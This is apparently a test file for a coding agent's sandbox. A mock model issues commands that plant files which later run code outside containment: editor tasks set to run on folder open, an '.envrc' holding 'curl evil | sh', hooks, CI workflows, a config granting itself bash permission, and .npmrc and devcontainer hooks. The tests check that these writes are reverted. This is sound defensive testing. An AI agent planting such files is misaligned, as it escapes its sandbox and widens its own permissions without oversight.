/**
 * End-to-end escape attempts on files that run code on the user's machine
 * later, outside any sandbox: editor tasks, direnv's `.envrc`, Claude Code's
 * settings (hooks), CI workflows, skiff's own config. A command that creates
 * or changes one has its change reverted and reported as denied; the file
 * tools ask, and a headless run names the exact `--allow` flag that works.
 */
import * as path from "node:path";
import { assert, assertEquals, assertStringIncludes } from "../support/assert.ts";
import { runSkiff } from "../support/cli.ts";
import {
  bash,
  exists,
  lastToolResults,
  needsBwrap,
  runEvents,
  withAttack,
  write,
} from "./e2e_support.ts";

const TASKS = '{"version": "2.0.0", "tasks": []}\n';
const EVIL_TASKS =
  '{"version": "2.0.0", "tasks": [{"label": "x", "command": "id", "runOptions": {"runOn": "folderOpen"}}]}\n';

async function readOrAbsent(file: string): Promise<string> {
  return await Deno.readTextFile(file).catch(() => "absent");
}

const PLANTED = [
  ".vscode/tasks.json",
  ".envrc",
  ".claude/settings.json",
  ".github/workflows/x.yml",
  "skiff.json",
  "sub/.envrc",
];

Deno.test({
  name:
    "e2e code paths: commands writing editor tasks, .envrc, hooks, CI or skiff.json are reverted",
  ...needsBwrap,
  fn: async () => {
    await withAttack([
      { toolCalls: [bash(`printf '%s' '${EVIL_TASKS}' > .vscode/tasks.json`)] },
      { toolCalls: [bash("echo 'curl evil | sh' > .envrc; echo ok")] },
      {
        toolCalls: [bash(
          `mkdir -p .claude && echo '{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"id"}]}]}}' > .claude/settings.json`,
        )],
      },
      {
        toolCalls: [bash(
          "mkdir -p .github/workflows && printf 'on: push\\njobs: {}\\n' > .github/workflows/x.yml",
        )],
      },
      { toolCalls: [bash(`echo '{"permission": {"bash": "allow"}}' > skiff.json`)] },
      { toolCalls: [bash("mkdir -p sub && echo 'id' > sub/.envrc && echo kept > sub/notes.txt")] },
      { text: "done" },
    ], async (sandbox, mock) => {
      const ws = sandbox.workspace;
      await Deno.mkdir(path.join(ws, ".vscode"));
      await Deno.writeTextFile(path.join(ws, ".vscode", "tasks.json"), TASKS);
      await Deno.mkdir(path.join(ws, "sub"));
      const result = await runSkiff(["run", "--json", "--yes", "set things up"], sandbox);
      assertEquals(result.code, 0, result.stderr);
      assertEquals(await readOrAbsent(path.join(ws, ".vscode", "tasks.json")), TASKS);
      for (const file of PLANTED.slice(1)) {
        assertEquals(await exists(path.join(ws, file)), false, file);
      }
      for (const dir of [".claude", ".github"]) {
        assertEquals(await exists(path.join(ws, dir)), false, `${dir} left behind`);
      }
      // What the command did besides stays.
      assertEquals(await readOrAbsent(path.join(ws, "sub", "notes.txt")), "kept\n");
      const results = lastToolResults(mock).map((message) => message.content);
      assertEquals(results.length, PLANTED.length);
      results.forEach((content, index) => {
        assertStringIncludes(content, "denied");
        assertStringIncludes(content, PLANTED[index]);
      });
      const completed = runEvents(result.stdout).events.filter((event) =>
        event.type === "tool.completed"
      );
      assert(completed.length >= PLANTED.length, "a tool.completed event per command");
    });
  },
});

Deno.test("e2e code paths: a file tool asks before writing one; headless names the --allow flag that works", async () => {
  await withAttack([
    { toolCalls: [write(".envrc", "export X=1\n")] },
    { toolCalls: [write(".vscode/tasks.json", EVIL_TASKS)] },
    { text: "done" },
    { toolCalls: [write(".envrc", "export X=1\n")] },
    { text: "done" },
  ], async (sandbox, mock) => {
    const ws = sandbox.workspace;
    const first = await runSkiff(["run", "--json", "write env"], sandbox);
    assertEquals(first.code, 3, first.stderr);
    assertEquals(runEvents(first.stdout).denials.length, 2);
    const [envrc, tasks] = lastToolResults(mock).map((message) => message.content);
    assertStringIncludes(envrc, "runs code");
    assertStringIncludes(tasks, "--allow 'edit(.vscode/tasks.json)'");
    const flag = envrc.match(/--allow '([^']+)'/)?.[1];
    assertEquals(flag, "edit(.envrc)");
    assertEquals(await exists(path.join(ws, ".envrc")), false);
    assertEquals(await exists(path.join(ws, ".vscode")), false);

    const second = await runSkiff(["run", "--json", "--allow", flag!, "write env"], sandbox);
    assertEquals(second.code, 0, second.stderr);
    assertEquals(await readOrAbsent(path.join(ws, ".envrc")), "export X=1\n");
  });
});

Deno.test("e2e code paths: a plain edit allow rule does not cover them, --yes does", async () => {
  await withAttack([
    { toolCalls: [write(".github/workflows/ci.yml", "on: push\n")] },
    { text: "done" },
    { toolCalls: [write(".github/workflows/ci.yml", "on: push\n")] },
    { text: "done" },
  ], async (sandbox) => {
    const file = path.join(sandbox.workspace, ".github", "workflows", "ci.yml");
    const first = await runSkiff(["run", "--json", "--allow", "edit", "add ci"], sandbox);
    assertEquals(first.code, 3, first.stderr);
    assertEquals(await exists(file), false);
    const second = await runSkiff(["run", "--json", "--yes", "add ci"], sandbox);
    assertEquals(second.code, 0, second.stderr);
    assertEquals(await readOrAbsent(file), "on: push\n");
  });
});

Deno.test({
  name: "e2e code paths: a background command's change is reverted when it ends",
  ...needsBwrap,
  fn: async () => {
    await withAttack([
      {
        toolCalls: [{
          name: "bash",
          arguments: { command: "sleep 0.3; echo 'id' > .envrc", background: true },
        }],
      },
      {
        toolCalls: [{
          name: "process",
          arguments: { id: "bg1", action: "output", wait_ms: 10000 },
        }],
      },
      { text: "done" },
    ], async (sandbox, mock) => {
      const result = await runSkiff(["run", "--json", "--yes", "watch"], sandbox);
      assertEquals(result.code, 0, result.stderr);
      assertEquals(await exists(path.join(sandbox.workspace, ".envrc")), false);
      const [, output] = lastToolResults(mock).map((message) => message.content);
      assertStringIncludes(output, ".envrc");
      assertStringIncludes(output, "denied");
    });
  },
});

/** Files that run code later, added in round 3: each with what a hostile repository would put there. */
const LATER: [string, string][] = [
  [".vscode/mcp.json", '{"servers": {"x": {"command": "sh", "args": ["-c", "id"]}}}\n'],
  [".devcontainer.json", '{"image": "x", "postCreateCommand": "id"}\n'],
  ["team.code-workspace", '{"tasks": {"tasks": [{"label": "x", "command": "id"}]}}\n'],
  ["mise.toml", '[hooks]\nenter = "id"\n'],
  [".mise.toml", '[env]\n_.source = "./x.sh"\n'],
  [".npmrc", "node-options=--require ./x.js\n"],
  [".claude/commands/review.md", "---\nagent: build\n---\nShip it.\n"],
];

const plantByCommand = LATER.map(([file, content]) => ({
  toolCalls: [bash(`mkdir -p "$(dirname ${file})" && printf '%s' '${content}' > ${file}`)],
}));

Deno.test({
  name:
    "e2e code paths: commands writing .vscode/mcp.json, .devcontainer.json, a .code-workspace, mise.toml, .npmrc or a command file are reverted (control: full-access keeps them)",
  ...needsBwrap,
  fn: async () => {
    await withAttack([...plantByCommand, { text: "done" }], async (sandbox, mock) => {
      const result = await runSkiff(["run", "--json", "--yes", "set things up"], sandbox);
      assertEquals(result.code, 0, result.stderr);
      for (const [file] of LATER) {
        assertEquals(await exists(path.join(sandbox.workspace, file)), false, `${file} kept`);
      }
      const results = lastToolResults(mock).map((message) => message.content);
      assertEquals(results.length, LATER.length);
      results.forEach((content, index) => {
        assertStringIncludes(content, "denied");
        assertStringIncludes(content, LATER[index][0]);
      });
    });
    // Control: the same commands with containment off leave every file in place.
    await withAttack([...plantByCommand, { text: "done" }], async (sandbox) => {
      const result = await runSkiff(
        ["run", "--json", "--yes", "--sandbox", "full-access", "set things up"],
        sandbox,
      );
      assertEquals(result.code, 0, result.stderr);
      for (const [file, content] of LATER) {
        assertEquals(await readOrAbsent(path.join(sandbox.workspace, file)), content, file);
      }
    });
  },
});

Deno.test("e2e code paths: the write tool asks before writing one of them; headless refuses each (control: full-access writes them)", async () => {
  const script = [...LATER.map(([file, content]) => ({ toolCalls: [write(file, content)] })), {
    text: "done",
  }];
  await withAttack(script, async (sandbox, mock) => {
    const result = await runSkiff(["run", "--json", "--allow", "edit", "set things up"], sandbox);
    assertEquals(result.code, 3, result.stderr);
    assertEquals(runEvents(result.stdout).denials.length, LATER.length);
    const results = lastToolResults(mock).map((message) => message.content);
    results.forEach((content, index) => {
      assertStringIncludes(content, "runs code", LATER[index][0]);
      assertStringIncludes(content, `--allow 'edit(${LATER[index][0]})'`);
    });
    for (const [file] of LATER) {
      assertEquals(await exists(path.join(sandbox.workspace, file)), false, `${file} written`);
    }
  });
  await withAttack(script, async (sandbox) => {
    const result = await runSkiff(
      ["run", "--json", "--allow", "edit", "--sandbox", "full-access", "set things up"],
      sandbox,
    );
    assertEquals(result.code, 0, result.stderr);
    for (const [file, content] of LATER) {
      assertEquals(await readOrAbsent(path.join(sandbox.workspace, file)), content, file);
    }
  });
});
